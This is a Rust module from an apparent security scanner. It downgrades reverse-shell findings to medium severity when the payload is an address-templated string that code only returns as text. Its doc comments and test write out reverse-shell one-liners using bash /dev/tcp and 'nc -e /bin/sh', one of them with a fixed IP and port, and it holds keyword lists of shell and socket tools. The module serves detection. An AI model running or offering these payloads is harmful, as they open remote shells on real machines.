//! Reverse-shell payloads a program only returns as text (round 46b, sets46b).
//!
//! A teaching toolbox or a payload generator builds reverse-shell commands as string values from
//! the address its user types in (`` bash: `bash -i >& /dev/tcp/${lhost}/${lport} 0>&1` ``,
//! `"nc -e /bin/sh {lhost} {lport}".format(...)`) and returns them (`res.json({ examples })`). The
//! command is text handed back to a person; nothing on this machine runs it.
//!
//! A reverse-shell finding (`network.reverse-shell*`, `network.python-reverse-shell`,
//! `network.netcat-exec`) is `medium` when all of these hold:
//! - its file is program code of a language that is not a shell (JavaScript/TypeScript, Python,
//!   Ruby, PHP, Go, Java…), so a string literal there is data;
//! - on the finding's line the payload sits inside string literals: with every literal blanked out
//!   the line names no socket, shell or `/dev/tcp`;
//! - the literal takes its address from an interpolation or placeholder (`${lhost}`, `{lhost}`,
//!   `%s`, `$LHOST`, `<LHOST>`) and writes no IPv4 address of its own;
//! - the file's code outside its string literals has no way to run or save text: no process call (`child_process`, `exec(`, `spawn(`,
//!   `system(`, `popen`, `subprocess`, `eval(`, `Function(`, `shell_exec`, `passthru`,
//!   `proc_open`, `Runtime.getRuntime`, `Process.Start`) and no file write (`writeFile`,
//!   `createWriteStream`, `write_text`, `file_put_contents`, `fopen`).
//!
//! A payload with a fixed address, a shell script, or a file that also runs or saves commands
//! keeps its grade.

use crate::scan::bundle::Bundle;
use crate::scan::content::Finding;
use crate::scan::rules::Severity;

/// The rules this pass reads.
fn reverse_shell_rule(id: &str) -> bool {
    id.starts_with("network.reverse-shell")
        || id == "network.python-reverse-shell"
        || id == "network.netcat-exec"
}

/// Extensions of program code whose string literals are data.
const CODE_EXTS: &[&str] = &[
    "js", "mjs", "cjs", "ts", "tsx", "jsx", "py", "rb", "php", "go", "java", "kt", "cs", "rs",
];

/// Words on a line outside its literals that make it a shell or socket statement.
const LIVE: &[&str] = &[
    "/dev/tcp",
    "socket",
    "subprocess",
    "dup2",
    "bash -i",
    "sh -i",
    "nc -",
    "ncat",
    "mkfifo",
    "pty",
];

/// Calls that run or save text, anywhere in the file (lower-cased).
const RUNNERS: &[&str] = &[
    "child_process",
    "exec(",
    "execsync",
    "execfile",
    "spawn(",
    "spawnsync",
    "system(",
    "popen",
    "subprocess",
    "eval(",
    "function(\"",
    "new function(",
    "shell_exec",
    "passthru",
    "proc_open",
    "runtime.getruntime",
    "process.start",
    "os.exec",
    "writefile",
    "createwritestream",
    "write_text(",
    "write_bytes(",
    "file_put_contents",
    "fopen(",
];

/// Markers of an address filled in from elsewhere.
const FILLED: &[&str] = &["${", "{", "%s", "$", "<"];

/// Lower reverse-shell payloads a program only returns as text to `medium`.
pub(super) fn demote_payload_templates(bundle: &Bundle, out: &mut [Finding]) {
    for f in out
        .iter_mut()
        .filter(|f| reverse_shell_rule(&f.rule_id) && f.severity > Severity::Medium && f.line > 0)
    {
        let ext = f
            .file
            .rsplit_once('.')
            .map_or("", |(_, e)| e)
            .to_ascii_lowercase();
        if !CODE_EXTS.contains(&ext.as_str()) {
            continue;
        }
        let Some(content) = bundle.text_of(&f.file) else {
            continue;
        };
        // The file's code outside its string literals runs or saves nothing.
        if content.lines().any(|l| {
            let code = split_literals(l).0.to_ascii_lowercase();
            RUNNERS.iter().any(|r| code.contains(r))
        }) {
            continue;
        }
        let Some(line) = content.lines().nth(f.line - 1) else {
            continue;
        };
        let (outside, literals) = split_literals(line);
        let outside = outside.to_ascii_lowercase();
        if literals.is_empty() || LIVE.iter().any(|w| outside.contains(w)) {
            continue;
        }
        let payload: Vec<&String> = literals
            .iter()
            .filter(|l| {
                let l = l.to_ascii_lowercase();
                LIVE.iter().any(|w| l.contains(w))
            })
            .collect();
        if payload.is_empty()
            || !payload
                .iter()
                .all(|l| FILLED.iter().any(|m| l.contains(m)) && !has_ipv4(l))
        {
            continue;
        }
        f.severity = Severity::Medium;
        f.description.push_str(
            " Here it is a payload template inside a string the program returns as text, its address filled in from input; nothing in the file runs or saves it (round 46b).",
        );
    }
}

/// The line with its string literals (`"…"`, `'…'`, `` `…` ``) blanked out, and the literals.
fn split_literals(line: &str) -> (String, Vec<String>) {
    let mut outside = String::new();
    let mut literals = Vec::new();
    let mut quote: Option<char> = None;
    let mut cur = String::new();
    let mut escaped = false;
    for c in line.chars() {
        match quote {
            Some(q) => {
                if escaped {
                    escaped = false;
                    cur.push(c);
                } else if c == '\\' {
                    escaped = true;
                    cur.push(c);
                } else if c == q {
                    literals.push(std::mem::take(&mut cur));
                    quote = None;
                    outside.push(' ');
                } else {
                    cur.push(c);
                }
            }
            None if matches!(c, '"' | '\'' | '`') => quote = Some(c),
            None => outside.push(c),
        }
    }
    if quote.is_some() {
        // An unclosed literal (a template continued on the next line) is still a literal.
        literals.push(cur);
    }
    (outside, literals)
}

/// Whether `s` writes a dotted IPv4 address (`10.0.0.1`).
fn has_ipv4(s: &str) -> bool {
    s.split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .any(|t| {
            let parts: Vec<&str> = t.split('.').collect();
            parts.len() == 4
                && parts.iter().all(|p| {
                    !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|n| n < 256)
                })
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_and_addresses() {
        let (out, lits) = split_literals("    nc: `nc -e /bin/sh ${lhost} ${lport}`,");
        assert_eq!(lits, vec!["nc -e /bin/sh ${lhost} ${lport}".to_string()]);
        assert!(!out.contains("nc -e"));
        assert!(has_ipv4("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
        assert!(!has_ipv4("bash -i >& /dev/tcp/${lhost}/${lport} 0>&1"));
        assert!(!has_ipv4("version 1.2.3"));
    }
}
